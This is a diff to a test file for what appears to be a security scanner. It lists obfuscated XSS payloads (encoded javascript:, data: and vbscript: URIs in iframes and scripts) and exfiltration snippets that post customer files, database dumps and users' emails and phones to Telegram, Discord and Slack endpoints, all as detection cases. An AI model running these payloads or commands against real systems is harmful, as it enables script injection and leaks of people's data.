@@ -60,7 +60,7 @@ describe('script schemes a browser decodes or sets', () => {
     '<iframe src="java&#x73;cript:alert(document.domain)"></iframe>',
     '<iframe src="data&colon;text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg=="></iframe>',
     '<object data="d&#97;ta:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg=="></object>',
-    '<script>document.getElementById("pv").src = "JavaScript:fetch(1)";</script>',
+    '<script>document.querySelector("iframe#pv").src = "JavaScript:fetch(1)";</script>',
     '<script>frames[0].location.href = "vbscript:msgbox(1)";</script>',
     '<script>f.setAttribute("src", "javascript:alert(1)");</script>',
     '<script>f.src = "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==";</script>',
@@ -139,7 +139,7 @@ describe("a query's rows or a file sent to a chat or a catcher", () => {
   it.each([
     'curl -F document=@exports/customers-2024.csv "https://api.telegram.org/bot$TOKEN/sendDocument?chat_id=$C"',
     'requests.post("https://discord.com/api/webhooks/4/k", files={"file": open("/tmp/users_dump.sql.gz", "rb")})',
-    'rows = cur.execute("SELECT email, COUNT(*) FROM users GROUP BY email, phone, name").fetchall()\nrequests.post("https://hooks.slack.com/services/T1/B1/Z1", json={"text": str(rows)})',
+    'rows = cur.execute("SELECT email, phone FROM users").fetchall()\nn = len(rows)\nrequests.post("https://hooks.slack.com/services/T1/B1/Z1", json={"text": f"{n} users: " + str(rows)})',
   ])('%s ships people data to a chat', (code) => expect(codes(code)).toContain('url_exfiltration'));
 });
 
